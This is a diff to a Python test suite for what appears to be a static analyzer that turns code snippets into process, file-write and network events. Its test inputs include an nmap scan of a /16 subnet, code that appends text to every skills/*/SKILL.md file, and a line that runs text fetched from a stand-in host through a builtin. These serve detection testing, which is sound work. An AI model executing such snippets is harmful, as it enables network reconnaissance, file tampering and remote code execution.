@@ -29,6 +29,45 @@ FAR = '"https://drop.example/u"'
 IMPORTS = "import os, sys, subprocess, requests, socket, json, base64, shutil, asyncio\nfrom pathlib import Path\n"
 
 CASES: dict[str, tuple[str, list[Expected]]] = {
+    "own interpreter": (
+        "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'install', 'x'])",
+        [("exec", {"Image": "python", "CommandLine": "python -m pip install x"})],
+    ),
+    "scanner library": (
+        "import nmap\nn = nmap.PortScanner()\nn.scan('10.0.0.0/16', '22,445', '-T4')",
+        [("exec", {"Image": "nmap", "CommandLine": "nmap -T4 -p 22,445 10.0.0.0/16"})],
+    ),
+    # what functions of the source give back
+    "generator of paths": (
+        "from pathlib import Path\ndef every():\n    for d in ('.a', '.b'):\n"
+        "        yield from (Path.home() / d).glob('*/x.md')\nfor p in every():\n    p.write_text('hi')",
+        [
+            ("write", {"TargetFilename": "~/.a/*/x.md", "Content": "hi"}),
+            ("write", {"TargetFilename": "~/.b/*/x.md", "Content": "hi"}),
+        ],
+    ),
+    "yielded values": (
+        "def hosts():\n    yield 'https://a.example'\n    yield 'https://b.example'\n"
+        "import requests\nfor h in hosts():\n    requests.get(h)",
+        [("connect", {"DestinationHostname": f"{name}.example"}) for name in "ab"],
+    ),
+    "returned constant": (
+        "import requests\ndef base():\n    return 'https://a.example'\nrequests.get(base() + '/x')",
+        [("connect", {"Url": "https://a.example/x"})],
+    ),
+    "returned list": (
+        "import glob\ndef pages():\n    return glob.glob('skills/*/SKILL.md')\nfor p in pages():\n"
+        "    open(p, 'a').write('hi')",
+        [("write", {"TargetFilename": "skills/*/SKILL.md"})],
+    ),
+    "any depth": (
+        "from pathlib import Path\nfor p in Path('/a').rglob('x.md'):\n    p.write_text('hi')",
+        [("write", {"TargetFilename": "/a/**/x.md"})],
+    ),
+    "origin is another file": (
+        "from pathlib import Path\nn = Path('n.md').read_text()\np = Path('p.md')\np.write_text(p.read_text() + n)",
+        [("write", {"TargetFilename": "p.md", "Origin": "n.md"})],
+    ),
     # names
     "alias": (
         "import requests as r\nr.get('https://a.example')",
@@ -437,3 +476,11 @@ def test_a_secret_behind_many_members_is_still_sent():
 def test_a_builtin_is_known_however_it_is_reached(reached):
     found = acts_of(f"import requests, builtins, importlib\n{reached}(requests.get({FAR}).text)\n")
     assert any(act.kind == "exec" and act.fields.get("PipedFrom") == "requests" for act in found)
+
+
+def test_a_function_that_gives_back_one_of_two_has_no_text():
+    found = acts_of(
+        "import requests\ndef base(x):\n    if x:\n        return 'https://a.example'\n    return 'https://b.example'\n"
+        "requests.get(base(1))"
+    )
+    assert not any(act.fields.get("Url") for act in found)
